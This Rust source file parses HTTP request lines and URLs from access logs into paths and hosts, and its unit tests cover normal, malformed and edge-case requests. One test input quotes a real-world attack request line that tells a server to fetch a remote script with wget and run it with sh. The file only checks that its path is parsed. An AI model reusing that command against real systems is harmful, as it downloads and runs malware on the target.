//! HTTP request lines and URLs: `GET /path?q HTTP/1.1` to `/path`, and
//! `https://host:443/path?x` to `/path` or `host`.

use memchr::{memchr, memchr2, memmem, memrchr};

use crate::num::show;

/// The path of a request line (`METHOD TARGET PROTOCOL`, or `METHOD TARGET`
/// for HTTP/0.9) without its query string. A target holding spaces (ALB
/// `SpaceInUri`) runs from the first space to the last.
pub(crate) fn request_path(req: &[u8]) -> Result<&[u8], String> {
    let target = request_target(req)?;
    path_of_target(target).ok_or_else(|| {
        format!("request `{}`: target `{}` is not a path or URL", show(req), show(target))
    })
}

/// The target (URL part) of a request line.
pub(crate) fn request_target(req: &[u8]) -> Result<&[u8], String> {
    if req.is_empty() || req == b"-" {
        return Err(format!("request is `{}`: the server logged no request line", show(req)));
    }
    let no_path =
        || format!("request `{}` has no path (expected `METHOD /path PROTOCOL`)", show(req));
    let sp = memchr(b' ', req).ok_or_else(no_path)?;
    let method = req.get(..sp).unwrap_or_default();
    if method == b"-" {
        return Err(format!("request `{}` was not parsed by the server (method `-`)", show(req)));
    }
    let rest = req.get(sp + 1..).unwrap_or_default();
    let target = match memrchr(b' ', rest) {
        Some(k) => rest.get(..k).unwrap_or_default(),
        None => rest,
    };
    if target.is_empty() {
        return Err(no_path());
    }
    Ok(target)
}

/// Splits an absolute URL into (authority, path-and-query) after `://`.
fn split_url(target: &[u8]) -> Option<(&[u8], &[u8])> {
    let scheme_end = memmem::find(target, b"://")?;
    let after = target.get(scheme_end + 3..)?;
    let slash = memchr2(b'/', b'?', after).unwrap_or(after.len());
    Some((after.get(..slash)?, after.get(slash..)?))
}

fn cut_query(path: &[u8]) -> &[u8] {
    match memchr(b'?', path) {
        Some(q) => path.get(..q).unwrap_or_default(),
        None => path,
    }
}

/// The path of a request target: origin form (`/a?b`), absolute form
/// (`http://h:80/a?b`; an empty path is `/`), or asterisk form (`*`).
pub(crate) fn path_of_target(target: &[u8]) -> Option<&[u8]> {
    if target.first() == Some(&b'/') {
        return Some(cut_query(target));
    }
    if target == b"*" {
        return Some(target);
    }
    let (_, path) = split_url(target)?;
    let path = cut_query(path);
    Some(if path.is_empty() { b"/" } else { path })
}

/// The host of an absolute URL, without user info or port (`[v6]` kept bracketed).
pub(crate) fn host_of_url(target: &[u8]) -> Option<&[u8]> {
    let (authority, _) = split_url(target)?;
    let authority = match memrchr(b'@', authority) {
        Some(at) => authority.get(at + 1..)?,
        None => authority,
    };
    let host = if authority.first() == Some(&b'[') {
        authority.get(..=memchr(b']', authority)?)?
    } else {
        match memrchr(b':', authority) {
            Some(c) => authority.get(..c)?,
            None => authority,
        }
    };
    if host.is_empty() {
        None
    } else {
        Some(host)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn path(req: &str) -> Result<&str, String> {
        request_path(req.as_bytes()).map(|p| std::str::from_utf8(p).unwrap())
    }

    #[test]
    fn paths() {
        assert_eq!(path("GET /products/42?address=delhi HTTP/1.1"), Ok("/products/42"));
        assert_eq!(path("GET /a%20b HTTP/2.0"), Ok("/a%20b"));
        assert_eq!(path("GET /old"), Ok("/old"));
        assert_eq!(path("GET https://www.example.com:443/path?x HTTP/1.1"), Ok("/path"));
        assert_eq!(path("GET http://10.0.0.30:80 HTTP/1.1"), Ok("/"));
        assert_eq!(path("GET http://h:80?x=1 HTTP/1.1"), Ok("/"));
        assert_eq!(path("OPTIONS * HTTP/1.1"), Ok("*"));
        assert_eq!(
            path("GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.tk/jaws;sh+/tmp/jaws HTTP/1.1"),
            Ok("/shell")
        );
        assert_eq!(path("PATCHp /products/42 HTTP/1.1"), Ok("/products/42"));
    }

    #[test]
    fn bad_requests() {
        assert!(path("-").unwrap_err().contains("no request line"));
        assert!(path("").unwrap_err().contains("no request line"));
        assert!(path("- - -").unwrap_err().contains("method `-`"));
        assert!(path("- http://www.example.com:80- -").unwrap_err().contains("method `-`"));
        assert!(path("\\x16\\x03\\x01").unwrap_err().contains("has no path"));
        assert!(path("CONNECT example.com:443 HTTP/1.1").unwrap_err().contains("not a path"));
        assert!(path("GET  HTTP/1.1").unwrap_err().contains("has no path"));
    }

    #[test]
    fn hosts() {
        fn h(u: &str) -> Option<&str> {
            host_of_url(u.as_bytes()).map(|h| std::str::from_utf8(h).unwrap())
        }
        assert_eq!(h("https://www.example.com:443/x"), Some("www.example.com"));
        assert_eq!(h("http://u:p@h/x"), Some("h"));
        assert_eq!(h("http://[fe80::1]:80/"), Some("[fe80::1]"));
        assert_eq!(h("http://h?x"), Some("h"));
        assert_eq!(h("/x"), None);
    }
}
